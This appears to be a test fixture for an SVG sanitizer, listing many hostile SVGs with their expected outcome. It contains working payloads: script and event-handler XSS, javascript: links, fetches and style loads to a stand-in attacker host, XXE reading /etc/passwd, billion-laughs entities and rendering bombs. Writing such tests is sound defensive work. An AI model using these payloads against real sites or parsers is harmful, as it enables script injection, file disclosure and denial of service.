// SVGs that must not be served as they are. `canary` is an address of the attacker's server, `boom` any script.

import { deflateRawSync, gzipSync } from 'node:zlib'
import { handPng } from '../../../testing/hand-made-images.ts'

export const canary = 'http://canary.invalid/'

/** The expected result: a refusal with its reason, or a file without dangers. */
export type Fate = 'cleaned' | 'broken' | 'unsupported' | 'over_limit'

export interface Hostile {
  name: string
  svg: string | Buffer
  fate: Fate
}

const head = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"'
const boom = `fetch('${canary}script')`
const wrapped = (body: string, attributes = '') => `${head} ${attributes}>${body}<rect width="9" height="9"/></svg>`
const html = 'xmlns="http://www.w3.org/1999/xhtml"'
const base64 = (text: string | Buffer) => Buffer.from(text as string).toString('base64')
const png = (widthPx: number, heightPx: number) =>
  `data:image/png;base64,${base64(handPng({ widthPx, heightPx, colourType: 6 }))}`

function group(fate: Fate, table: Record<string, string | Buffer>): Hostile[] {
  return Object.entries(table).map(([name, svg]) => ({ name, svg, fate }))
}

const scripts = group('cleaned', {
  'a script': wrapped(`<script>${boom}</script>`),
  'a script in CDATA': wrapped(`<script><![CDATA[${boom}]]></script>`),
  'a script with references for letters': wrapped(`<script>&#102;etch('${canary}')</script>`),
  'a script from elsewhere': wrapped(`<script href="${canary}a.js"/><script xlink:href="${canary}b.js"/>`),
  'a script as data': wrapped(`<script href="data:text/javascript,${boom}"/>`),
  'a module': wrapped(`<script type="module">${boom}</script>`),
  'a script under a prefix': wrapped(`<x:script xmlns:x="http://www.w3.org/2000/svg">${boom}</x:script>`),
  'a script of XHTML': wrapped(`<h:script xmlns:h="http://www.w3.org/1999/xhtml">${boom}</h:script>`),
  'a script of XHTML by default namespace': wrapped(`<script ${html}>${boom}</script>`),
  'a script in capitals': wrapped(`<SCRIPT>${boom}</SCRIPT><Script>${boom}</Script>`),
  'a script behind the defs': wrapped(`<defs><g><script>${boom}</script></g></defs>`),
  'a script in the title': wrapped(`<title><script>${boom}</script></title><desc><script>${boom}</script></desc>`),
  'a script in the metadata': wrapped(`<metadata><script>${boom}</script></metadata>`),
  'a script in a text': wrapped(`<text>hi<script>${boom}</script>&lt;script&gt;${boom}&lt;/script&gt;</text>`),
  'a script in an unknown element': wrapped(`<unknown><script>${boom}</script></unknown>`),
  'a script in a style': wrapped(`<style><script xmlns="http://www.w3.org/2000/svg">${boom}</script></style>`),
  'a script closing a style': wrapped(`<style><![CDATA[</style><script>${boom}</script>]]></style>`),
  'a handler element': wrapped(
    `<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${boom}</handler>`,
  ),
  'a listener': wrapped(`<listener event="load" handler="#h" xmlns="http://www.w3.org/2001/xml-events"/>`),
})

const handlers = group('cleaned', {
  onload: wrapped('', `onload="${boom}"`),
  'onload in any case': wrapped(`<g ONLOAD="${boom}" onLoad="${boom}"/>`),
  'onload with references': wrapped('', `onload="&#x66;etch('${canary}')"`),
  'handlers of the pointer': wrapped(
    `<rect width="20" height="20" onclick="${boom}" onmouseover="${boom}" onfocusin="${boom}"/>`,
  ),
  'handlers of animations': wrapped(
    `<animate attributeName="x" dur="1s" onbegin="${boom}" onend="${boom}" onrepeat="${boom}"/>`,
  ),
  'a handler under a prefix': wrapped(`<g xmlns:s="http://www.w3.org/2000/svg" s:onload="${boom}"/>`),
  'onerror of a picture': wrapped(`<image href="data:image/png;base64,AAAA" onerror="${boom}"/>`),
  'autofocus and onfocus': wrapped(`<a href="#x" tabindex="1" autofocus="" onfocus="${boom}"><text>x</text></a>`),
})

const links = group('cleaned', {
  'a link to javascript': wrapped(`<a href="javascript:${boom}"><text y="9">x</text></a>`),
  'a link with control characters': wrapped(`<a xlink:href="java&#10;script&#9;:${boom}"><text y="9">x</text></a>`),
  'a link with leading blanks': wrapped(
    `<a href=" &#13;&#x1F;javascript:${boom}"><text y="9">x</text></a>`.replace('&#x1F;', ''),
  ),
  'a link in mixed case': wrapped(`<a xlink:href="JaVaScRiPt:${boom}" target="_top"><text y="9">x</text></a>`),
  'a link to HTML as data': wrapped(`<a href="data:text/html,&lt;script>${boom}&lt;/script>"><text y="9">x</text></a>`),
  'a link to vbscript': wrapped('<a href="vbscript:msgbox(1)"><text y="9">x</text></a>'),
  'a ping': wrapped(`<a href="#a" ping="${canary}ping" download="x"><text y="9">x</text></a>`),
  'use of another file': wrapped(`<use href="${canary}a.svg#x"/><use xlink:href="//canary.invalid/a.svg#x"/>`),
  'use of javascript': wrapped(`<use href="javascript:${boom}"/>`),
  'use of an SVG as data': wrapped(
    `<use xlink:href="data:image/svg+xml;base64,${base64(wrapped(`<script>${boom}</script>`, 'id="x"'))}#x"/>`,
  ),
  'two references, one bad': wrapped(`<g id="ok"/><use href="${canary}a.svg#x" xlink:href="#ok"/>`),
  'a reference under another prefix': wrapped(
    `<use xmlns:q="http://www.w3.org/1999/xlink" q:href="${canary}a.svg#x"/>`,
  ),
  'an image from elsewhere': wrapped(
    `<image href="${canary}a.png" width="9" height="9"/><image xlink:href="/etc/passwd"/>`,
  ),
  'an image from the disk': wrapped('<image href="file:///etc/passwd" width="9" height="9"/>'),
  'an image of this document': wrapped('<image href="#a" width="9" height="9"/><image href="" width="9" height="9"/>'),
  'an image that is an SVG': wrapped(
    `<image href="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='x'/>" width="9" height="9"/>`,
  ),
  'an image that says PNG and is an SVG': wrapped(
    `<image href="data:image/png;base64,${base64(wrapped(`<script>${boom}</script>`))}" width="9" height="9"/>`,
  ),
  'an image that says PNG and is HTML': wrapped(
    `<image href="data:image/png;base64,${base64(`<script>${boom}</script>`)}"/>`,
  ),
  'an image without base64': wrapped('<image href="data:image/png,%89PNG" width="9" height="9"/>'),
  'a filter image from elsewhere': wrapped(
    `<filter id="f"><feImage href="${canary}a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>`,
  ),
  'a filter image of an SVG as data': wrapped(
    `<filter id="f"><feImage xlink:href="data:image/svg+xml,&lt;svg/>"/></filter>`,
  ),
  'gradients and patterns from elsewhere': wrapped(
    `<linearGradient href="${canary}a#g"/><pattern xlink:href="${canary}a#p"/><textPath href="${canary}a#t"/>`,
  ),
  'a text path from elsewhere': wrapped(
    `<text><textPath xlink:href="${canary}a#p">x</textPath><tref xlink:href="${canary}a#t"/></text>`,
  ),
  'a font from elsewhere': wrapped(
    `<font-face><font-face-src><font-face-uri xlink:href="${canary}a.ttf"/></font-face-src></font-face>`,
  ),
  'a colour profile and a cursor': wrapped(
    `<color-profile xlink:href="${canary}a.icc"/><cursor xlink:href="${canary}a.cur"/>`,
  ),
  'a base for references': wrapped('<g xml:base="http://canary.invalid/"><use href="#a"/><image href="a.png"/></g>'),
  'the src of SVG Tiny': wrapped(
    `<audio src="${canary}a" href="${canary}a"/><video xlink:href="${canary}v"/><image src="${canary}i"/>`,
  ),
})

const foreign = group('cleaned', {
  'a foreign object': wrapped(
    `<foreignObject width="9" height="9"><body ${html}><script>${boom}</script></body></foreignObject>`,
  ),
  'a foreign object without namespace': wrapped(`<foreignObject><iframe src="${canary}"/></foreignObject>`),
  'a foreign object in a switch': wrapped(
    `<switch><foreignObject requiredExtensions="http://www.w3.org/1999/xhtml"><img ${html} src="x" onerror="${boom}"/></foreignObject><g/></switch>`,
  ),
  'an iframe': wrapped(
    `<iframe ${html} src="javascript:${boom}"/><h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="x"/>`,
  ),
  'an object and an embed': wrapped(`<object ${html} data="${canary}"/><embed ${html} src="${canary}"/>`),
  'a meta refresh': wrapped(
    `<meta ${html} http-equiv="refresh" content="0;url=${canary}"/><base ${html} href="${canary}"/>`,
  ),
  'a link element': wrapped(`<link ${html} rel="stylesheet" href="${canary}a.css"/>`),
  'MathML with a link': wrapped(
    `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:${boom}"><mi>x</mi></math>`,
  ),
  'an SVG in HTML in the SVG': wrapped(
    `<div ${html}><svg xmlns="http://www.w3.org/2000/svg"><script>${boom}</script></svg></div>`,
  ),
  'editor namespaces and RDF': wrapped(
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:li>me</rdf:li></rdf:RDF><g xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:label="secret"/>',
  ),
})

const animations = group('cleaned', {
  'set of href': wrapped(`<a id="l"><set attributeName="href" to="javascript:${boom}"/><text y="9">x</text></a>`),
  'animate of xlink:href': wrapped(
    `<a><animate attributeName="xlink:href" values="javascript:${boom}"/><text y="9">x</text></a>`,
  ),
  'animate of href from afar': wrapped(
    `<a id="l" href="#"><text y="9">x</text></a><animate href="#l" attributeName="href" to="javascript:${boom}"/>`,
  ),
  'animate of href of an image': wrapped(
    `<image href="${png(1, 1)}"><set attributeName="href" to="${canary}a.png"/></image>`,
  ),
  'set of a handler': wrapped(`<g><set attributeName="onmouseover" to="${boom}"/></g>`),
  'set of href with blanks': wrapped(`<a><set attributeName=" href " to="javascript:${boom}"/></a>`),
  'set of style': wrapped(`<rect><set attributeName="style" to="fill:url(${canary}a)"/></rect>`),
  'animate of fill to a url': wrapped(
    `<rect><animate attributeName="fill" values="red;url(${canary}a#b)" dur="1s"/></rect>`,
  ),
  'animate of filter': wrapped(`<rect><set attributeName="filter" to="url(${canary}a#b)"/></rect>`),
  'an animation begun by a click': wrapped(
    '<rect><animate attributeName="x" begin="click; accessKey(a)" to="9"/></rect>',
  ),
  discard: wrapped('<discard begin="0s" href="#a"/>'),
})

const styles = group('cleaned', {
  '@import': wrapped(`<style>@import url(${canary}a.css); @import '${canary}b.css'; rect{fill:red}</style>`),
  '@import without an end': wrapped(`<style>@import url(${canary}a.css)</style>`),
  '@font-face': wrapped(
    `<style>@font-face{font-family:x;src:url(${canary}a.ttf)} text{font-family:x}</style><text>x</text>`,
  ),
  '@media around a load': wrapped(`<style>@media all{rect{fill:url(${canary}a#b)}}</style>`),
  '@namespace and @charset': wrapped(`<style>@charset "utf-7"; @namespace "${canary}"; rect{fill:red}</style>`),
  'url of another host in a rule': wrapped(
    '<style>rect{fill:url(//canary.invalid/a#b);background:url(//canary.invalid/c)}</style>',
  ),
  'url of another host in a style': wrapped(
    `<rect style="fill:url('${canary}a#b');mask:url(&quot;//canary.invalid/a&quot;)"/>`,
  ),
  'url of another host in attributes': wrapped(
    ['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker-start', 'marker-mid', 'marker-end', 'cursor']
      .map((name) => `<path d="M0 0h9v9" ${name}="url(${canary}${name}#x)"/>`)
      .join(''),
  ),
  'url in capitals': wrapped('<rect fill="URL(//canary.invalid/a#b)" style="fill:UrL( //canary.invalid/b )"/>'),
  'url in escapes': wrapped(`<rect style="fill:\\75 rl(${canary}a#b)" fill="u\\72l(${canary}a#b)"/>`),
  'url in escapes of a rule': wrapped(
    `<style>rect{fill:\\75\\72\\6c(${canary}a#b)} \\40 import '${canary}'; r\\65 ct{fill:red}</style>`,
  ),
  'url split by a comment': wrapped(
    `<style>rect{fill:ur/**/l(${canary}a#b)}/*</style><style>*/@import '${canary}';</style>`,
  ),
  'url behind a harmless one': wrapped(`<rect fill="url(#a) url(${canary}b)" style="fill:url(#a),url(${canary}c#d)"/>`),
  'url in a string that does not close': wrapped(
    `<rect style="font-family:'x;fill:url(${canary}a#b)"/><style>a[b="]{} rect{fill:url(${canary}a#b)}</style>`,
  ),
  'url in a variable': wrapped(`<style>:root{--a:url(${canary}a#b)} rect{fill:var(--a, url(${canary}c#d))}</style>`),
  'image-set and image': wrapped(
    `<rect style="background:image-set('${canary}a' 1x);mask-image:image('${canary}b');fill:src('${canary}c')"/>`,
  ),
  'a cursor and a list image': wrapped(
    `<svg style="cursor:url(${canary}a),auto;list-style-image:url(${canary}b);content:url(${canary}c)"/>`,
  ),
  'expression, binding and behavior': wrapped(
    `<rect style="width:expression(alert(1));-moz-binding:url(${canary}a#b);behavior:url(${canary}c)"/>`,
  ),
  'javascript in a url': wrapped(`<rect style="fill:url(javascript:${boom})" fill="url('javascript:alert(1)')"/>`),
  'data in a url': wrapped(`<rect style="fill:url(data:image/svg+xml;base64,${base64('<svg/>')}#a)"/>`),
  'an attribute that leaks by selectors': wrapped(
    `<style>text[class^="a"]{fill:url(${canary}a)} svg:has(a){mask:url(${canary}b)}</style>`,
  ),
  'a style of another type': wrapped(`<style type="text/less">@plugin "${canary}"; rect{fill:red}</style>`),
  'an HTML comment in a style': wrapped(`<style><![CDATA[<!-- @import '${canary}'; --> rect{fill:red}]]></style>`),
})

const markup = [
  ...group('cleaned', {
    'a style sheet by instruction': `<?xml version="1.0"?><?xml-stylesheet href="${canary}a.css" type="text/css"?>${wrapped('')}`,
    'a transformation by instruction': `<?xml-stylesheet type="text/xsl" href="data:text/xml,x"?>${wrapped('')}`,
    'an instruction inside': wrapped(`<?php echo 1 ?><?xml-stylesheet href="${canary}a.css"?>`),
    'an external DTD of the W3C': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">${wrapped('')}`,
    'a polyglot with HTML in a comment': wrapped('<!-- --><html><script>alert(1)</script></html>').replace(
      '<!-- -->',
      '<!--<body>-->',
    ),
    'a breakout from attributes': wrapped(
      '<g id="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" class="&quot; onload=&quot;x"/>',
    ),
    'a breakout from text': wrapped(
      '<text>&lt;/text&gt;&lt;script&gt;alert(1)&lt;/script&gt;&amp;lt;script&amp;gt;</text>',
    ),
    'a breakout from text by CDATA': wrapped(`<text><![CDATA[</text><script>${boom}</script>]]></text>`),
    'UTF-7 in a text': wrapped('<text>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</text>'),
    'names of JavaScript objects': wrapped(
      '<constructor/><g __proto__="x" constructor="y" style="__proto__:1;constructor:2" class="__proto__" id="__proto__"/><use href="#__proto__x"/>',
    ),
  }),
  ...group('unsupported', {
    'an external DTD': `<!DOCTYPE svg SYSTEM "${canary}a.dtd">${wrapped('')}`,
    'an external DTD that poses as public': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "${canary}svg11.dtd">${wrapped('')}`,
    'an external entity': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${wrapped('<text>&x;</text>')}`,
    'a parameter entity': `<!DOCTYPE svg [<!ENTITY % x SYSTEM "${canary}a.dtd"> %x;]>${wrapped('')}`,
    'a billion laughs': `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">]>${wrapped('<text>&c;</text>')}`,
    'an entity that is a script': `<!DOCTYPE svg [<!ENTITY s "&#60;script>alert(1)&#60;/script>">]>${wrapped('&s;')}`,
    'an attribute by declaration': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "alert(1)">]>${wrapped('')}`,
    'HTML with an SVG': `<!DOCTYPE html><html><body>${wrapped(`<script>${boom}</script>`)}</body></html>`,
    'XHTML with an SVG': `<html ${html}><body>${wrapped('')}</body></html>`,
    'an SVG of no namespace': `<svg width="9" height="9"><script>${boom}</script></svg>`,
    'an SVG of another namespace': `<svg ${html}><script>${boom}</script></svg>`,
    'a root of another name': '<g xmlns="http://www.w3.org/2000/svg"/>',
    'UTF-7 declared': `<?xml version="1.0" encoding="UTF-7"?>${wrapped('+ADw-script+AD4-')}`,
    'ISO-2022-JP declared': `<?xml version="1.0" encoding="iso-2022-jp"?>${wrapped('')}`,
    'Latin 1 that is not ASCII': Buffer.from(`<?xml version="1.0" encoding="iso-8859-1"?>${wrapped('<text>é</text>')}`),
    'UTF-16': Buffer.from(`\ufeff${wrapped(`<script>${boom}</script>`)}`, 'utf16le'),
    'UTF-16 without a mark': Buffer.from(wrapped(''), 'utf16le'),
    'UTF-16 of the other order': Buffer.from(`\ufeff${wrapped('')}`, 'utf16le').swap16(),
    'a compressed SVG': gzipSync(wrapped('')),
    'a GIF that goes on as an SVG': `GIF89a/*${wrapped('')}*/`,
    'a PDF that goes on as an SVG': `%PDF-1.4\n${wrapped('')}`,
    'text before the SVG': `hello ${wrapped('')}`,
    nothing: '',
    'deflated bytes': deflateRawSync(wrapped('')),
  }),
  ...group('broken', {
    'a zero in the middle': wrapped('<g id="a\0b"/>'),
    'a zero by reference': wrapped('<text>&#0;</text>'),
    'a control character by reference': wrapped('<text>&#x1;</text>'),
    'a lone surrogate': wrapped('<text>&#xD800;</text>'),
    'bytes that are no UTF-8': Buffer.concat([Buffer.from(wrapped('')), Buffer.from([0xc0, 0xbc, 0xff])]),
    'overlong UTF-8': Buffer.from(wrapped('<text>XX</text>').replace('XX', 'ÀÀ'), 'latin1'),
    'an attribute twice': wrapped('<g id="a" id="b"/>'),
    'an attribute twice by prefix': wrapped('<g xmlns:p="http://www.w3.org/1999/xlink" p:href="#a" xlink:href="#b"/>'),
    'an entity of HTML': wrapped('<text>&nbsp;</text>'),
    'an entity that nobody declared': wrapped('<text>&x;</text>'),
    'broken nesting': wrapped('<g><text></g></text>'),
    'an element that does not end': `${head}><g>`,
    'an attribute without quotes': wrapped('<g onload=alert(1)>'),
    'an attribute that does not end': `${head}><g id="`,
    'a prefix that nobody declared': wrapped('<x:script>alert(1)</x:script>'),
    'a prefix bound to nothing': wrapped('<x:g xmlns:x=""/>'),
    'xmlns bound anew': wrapped('<g xmlns:xmlns="http://www.w3.org/2000/svg"/>'),
    'two roots': `${wrapped('')}${wrapped(`<script>${boom}</script>`)}`,
    'text behind the root': `${wrapped('')}<`,
    'a comment with two hyphens': wrapped('<!-- -- ><script>alert(1)</script> -->'),
    'a CDATA that does not end': wrapped('<![CDATA['),
    'a declaration in the middle': wrapped('<?xml version="1.0"?>'),
    'a less-than sign in an attribute': wrapped('<g id="<script>"/>'),
    'a name with a slash': wrapped('<script/x>alert(1)</script>'),
  }),
]

const times = (count: number, make: (index: number) => string) =>
  Array.from({ length: count }, (_, i) => make(i)).join('')
const nested = (levels: number, copies: number, link: (id: string) => string) =>
  `<g id="l0"><path d="M0 0h1"/></g>${times(levels, (i) => `<g id="l${i + 1}">${link(`l${i}`).repeat(copies)}</g>`)}`
const use = (id: string) => `<use href="#${id}"/>`

const bombs = [
  ...group('broken', {
    'use of itself': wrapped('<use id="a" href="#a"/>'),
    'use of its own parent': wrapped('<g id="a"><g><use href="#a"/></g></g>'),
    'use in a ring': wrapped(`<g id="a">${use('b')}</g><g id="b">${use('c')}</g><g id="c">${use('a')}</g>`),
    'a pattern filled with itself': wrapped('<pattern id="p"><rect fill="url(#p)" width="9" height="9"/></pattern>'),
    'a mask masked by itself': wrapped('<mask id="m"><rect style="mask:url(\'#m\')" width="9" height="9"/></mask>'),
    'a marker marked by itself': wrapped('<marker id="m"><path marker-end="url(#m)" d="M0 0h9"/></marker>'),
    'a ring through a rule': wrapped(
      '<style>.a{clip-path:url(#c)}</style><clipPath id="c"><path class="a" d="M0 0h9"/></clipPath>',
    ),
    'a filter image of what it filters': wrapped(
      '<filter id="f"><feImage href="#r"/></filter><rect id="r" filter="url(#f)"/>',
    ),
    'a gradient in a ring': wrapped('<linearGradient id="a" href="#b"/><linearGradient id="b" href="#a"/>'),
    'a picture that is cut off': wrapped(`<image href="${png(40, 40).slice(0, 80)}"/>`),
    'no width': '<svg xmlns="http://www.w3.org/2000/svg" width="0" height="10"/>',
    'a negative height': '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="-10"/>',
  }),
  ...group('over_limit', {
    'use of use': wrapped(nested(20, 10, use)),
    'use of use without end': wrapped(nested(40, 1, use)),
    'use by ids given twice': wrapped(`<g id="l0"/>${nested(20, 10, use)}`),
    'patterns in patterns': wrapped(
      times(
        9,
        (i) => `<pattern id="p${i + 1}">${`<rect fill="url(#p${i})" width="9" height="9"/>`.repeat(10)}</pattern>`,
      ),
    ),
    'masks in masks': wrapped(
      times(9, (i) => `<mask id="p${i + 1}">${`<g mask="url(#p${i})"/>`.repeat(10)}</mask>`) +
        '<mask id="p0"><g/></mask>',
    ),
    'a marker on a million points': wrapped(
      `<marker id="m">${'<g/>'.repeat(100)}</marker><path marker-mid="url(#m)" d="M${'0 0 '.repeat(90_000)}"/>`,
    ),
    'a marker inherited': wrapped(
      `<marker id="m">${'<g/>'.repeat(100)}</marker><g style="marker:url(#m)">${'<path d="M0 0h1h1h1"/>'.repeat(900)}</g>`,
    ),
    'a pattern inherited': wrapped(
      `<pattern id="p">${'<g/>'.repeat(100)}</pattern><g fill="url(#p)">${'<path d="M0 0h1"/>'.repeat(900)}</g>`,
    ),
    '200,000 elements': `${head}>${'<g/>'.repeat(200_000)}</svg>`,
    '200,000 elements to be dropped': wrapped(`<metadata>${'<x/>'.repeat(200_000)}</metadata>`),
    'deep nesting': wrapped('<g>'.repeat(500) + '</g>'.repeat(500)),
    'deep nesting of what is dropped': wrapped('<x>'.repeat(50_000) + '</x>'.repeat(50_000)),
    'thousands of attributes': wrapped(`<g ${times(5000, (i) => `a${i}="" `)}/>`),
    'three megabytes': wrapped(`<path d="${'0 '.repeat(1_600_000)}"/>`),
    'text that grows when it is written': wrapped(`<text>${'>'.repeat(1_500_000)}</text>`),
    '200 filter primitives': wrapped(`<filter id="f">${'<feTurbulence/>'.repeat(200)}</filter>`),
    'a filter on a thousand elements': wrapped(
      `<filter id="f"><feGaussianBlur/></filter>${'<g filter="url(#f)"/>'.repeat(1000)}`,
    ),
    'a filter by a rule on a thousand elements': wrapped(
      `<style>svg>g.a{filter:url(#f)}</style><filter id="f"><feOffset/></filter>${'<g class="b a"/>'.repeat(1000)}`,
    ),
    'a thousand filter functions': wrapped(`<rect style="filter:${'blur(9px) '.repeat(1000)}"/>`),
    'filters multiplied by use': wrapped(
      `<filter id="f"><feOffset/></filter><g id="l0" filter="url(#f)"/>${times(3, (i) => `<g id="l${i + 1}">${use(`l${i}`).repeat(9)}</g>`)}`,
    ),
    'a filter region of light years': wrapped(
      '<filter id="f" filterUnits="userSpaceOnUse" width="1e12" height="1e12"><feFlood/></filter>',
    ),
    'a filter region in per cent': wrapped('<filter id="f" x="-9999999%"><feFlood/></filter>'),
    'a morphology without measure': wrapped('<filter id="f"><feMorphology radius="100000"/></filter>'),
    'a convolution without measure': wrapped('<filter id="f"><feConvolveMatrix order="500"/></filter>'),
    'a turbulence without measure': wrapped('<filter id="f"><feTurbulence numOctaves="1000000"/></filter>'),
    'rules times elements': wrapped(`<style>${times(2000, (i) => `.c${i}{fill:red}`)}</style>${'<g/>'.repeat(10_000)}`),
    'a picture of 144 megapixels': wrapped(`<image href="${png(12_000, 12_000)}" width="9" height="9"/>`),
    'a picture of 9 megapixels': wrapped(`<image href="${png(3000, 3000)}" width="9" height="9"/>`),
    'a picture drawn a thousand times': wrapped(
      `<image id="i" href="${png(1900, 1900)}" width="9" height="9"/>${use('i').repeat(1000)}`,
    ),
    'a hundred pictures': wrapped(`<image href="${png(1, 1)}"/>`.repeat(100)),
  }),
]

export const hostiles: Hostile[] = [
  ...scripts,
  ...handlers,
  ...links,
  ...foreign,
  ...animations,
  ...styles,
  ...markup,
  ...bombs,
]
